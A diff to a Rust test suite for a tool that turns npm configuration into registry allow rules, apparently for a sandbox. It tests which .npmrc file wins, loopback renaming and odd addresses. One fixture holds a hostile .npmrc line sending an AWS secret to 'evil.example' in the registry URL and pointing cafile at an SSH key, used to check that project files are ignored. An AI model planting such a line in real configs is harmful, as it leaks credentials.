@@ -38,6 +38,10 @@ impl Fixture {
     }
 }
 
+fn shown(rules: &[Rule]) -> Vec<String> {
+    rules.iter().map(ToString::to_string).collect()
+}
+
 fn npmrc(config: &NpmConfig) -> String {
     let files = config.fetch_files().unwrap();
     let (_, text) = files.iter().find(|(path, _)| path.ends_with(".npmrc")).unwrap();
@@ -47,7 +51,7 @@ fn npmrc(config: &NpmConfig) -> String {
 #[test]
 fn nothing_configured_is_npms_own_default() {
     let config = Fixture::new().read();
-    assert_eq!(config.rules(), ["registry.example.com:443"]);
+    assert_eq!(shown(&config.rules()), ["registry.example.com:443"]);
     assert!(config.private_rules().is_empty() && config.notes.is_empty());
     assert_eq!(npmrc(&config), "registry=\"https://registry.example.com/\"\n");
 }
@@ -56,18 +60,18 @@ fn nothing_configured_is_npms_own_default() {
 fn the_strongest_place_wins() {
     let f = Fixture::new();
     f.write("prefix/lib/npm/npmrc", "registry=https://builtin.example/\n@b:registry=https://b.example");
-    assert_eq!(f.read().rules(), ["b.example:443", "builtin.example:443"]);
+    assert_eq!(shown(&f.read().rules()), ["b.example:443", "builtin.example:443"]);
     f.write("prefix/etc/npmrc", "registry=https://global.example/");
-    assert_eq!(f.read().registry.rule(), "global.example:443");
+    assert_eq!(f.read().registry.rule().unwrap().to_string(), "global.example:443");
     f.write("home/.npmrc", "registry=https://user.example:8443/npm");
-    assert_eq!(f.read().registry.rule(), "user.example:8443");
+    assert_eq!(f.read().registry.rule().unwrap().to_string(), "user.example:8443");
     f.write("elsewhere", "registry=http://elsewhere.example/");
     let elsewhere = f.dir.path().join("elsewhere").display().to_string();
     let f = f.var("npm_config_userconfig", &elsewhere);
-    assert_eq!(f.read().registry.rule(), "elsewhere.example:80");
+    assert_eq!(f.read().registry.rule().unwrap().to_string(), "elsewhere.example:80");
     let f = f.var("NPM_CONFIG_REGISTRY", "https://env.example");
-    assert_eq!(f.read().registry.rule(), "env.example:443");
-    assert_eq!(f.read().private_rules(), ["b.example:443", "env.example:443"]);
+    assert_eq!(f.read().registry.rule().unwrap().to_string(), "env.example:443");
+    assert_eq!(shown(&f.read().private_rules()), ["b.example:443", "env.example:443"]);
 }
 
 #[test]
@@ -75,11 +79,11 @@ fn a_projects_file_counts_only_when_asked_for() {
     let f = Fixture::new().var("AWS_SECRET", "secret");
     f.write("home/project/.npmrc", "registry=https://evil.example/${AWS_SECRET}/\ncafile=~/.ssh/id");
     let config = f.read();
-    assert_eq!(config.rules(), ["registry.example.com:443"]);
+    assert_eq!(shown(&config.rules()), ["registry.example.com:443"]);
     assert_eq!(config.cafile, None);
     assert!(config.notes[0].contains("does not count"), "{:?}", config.notes);
     let asked = NpmConfig::read(&f.host, &f.node, true).unwrap();
-    assert_eq!(asked.rules(), ["evil.example:443"]);
+    assert_eq!(shown(&asked.rules()), ["evil.example:443"]);
 }
 
 #[test]
@@ -122,7 +126,7 @@ fn the_hosts_loopback_has_another_name_inside() {
         "registry=http://localhost:4873/\n//localhost:4873/:_authToken=t\n@v:registry=http://[::1]:1/",
     );
     let config = f.read();
-    assert_eq!(config.rules(), ["host.npxc.internal:1", "host.npxc.internal:4873"]);
+    assert_eq!(shown(&config.rules()), ["host.npxc.internal:1", "host.npxc.internal:4873"]);
     let text = npmrc(&config);
     assert!(text.contains("registry=\"http://host.npxc.internal:4873/\""), "{text}");
     assert!(text.contains("//host.npxc.internal:4873/:_authToken=\"t\""), "{text}");
@@ -139,7 +143,7 @@ fn proxies_are_noted() {
 
 #[test]
 fn addresses_of_registries() {
-    let rule = |text: &str| text.parse::<RegistryUrl>().map(|url| url.rule());
+    let rule = |text: &str| text.parse::<RegistryUrl>().map(|url| url.rule().unwrap().to_string());
     assert_eq!(rule("https://R.example"), Ok("r.example:443".into()));
     assert_eq!(rule("http://r.example:81/a/b"), Ok("r.example:81".into()));
     assert_eq!(rule("https://[2001:db8::1]/"), Ok("[2001:db8::1]:443".into()));
@@ -167,4 +171,13 @@ fn a_bad_registry_says_where_it_stands() {
     f.write("home/.npmrc", "@x:registry=https://user:pw@r.example/");
     let error = NpmConfig::read(&f.host, &f.node, false).unwrap_err().to_string();
     assert!(error.contains("@x:registry") && error.contains(".npmrc") && !error.contains("pw@"), "{error}");
+}
+
+#[test]
+fn a_registry_that_no_rule_can_name_is_noted_and_the_others_count() {
+    let f = Fixture::new();
+    f.write("home/.npmrc", "@odd:registry=https://0x7f.1/");
+    let config = f.read();
+    assert_eq!(shown(&config.rules()), ["registry.example.com:443"]);
+    assert!(config.notes[0].contains("0x7f.1"), "{:?}", config.notes);
 }
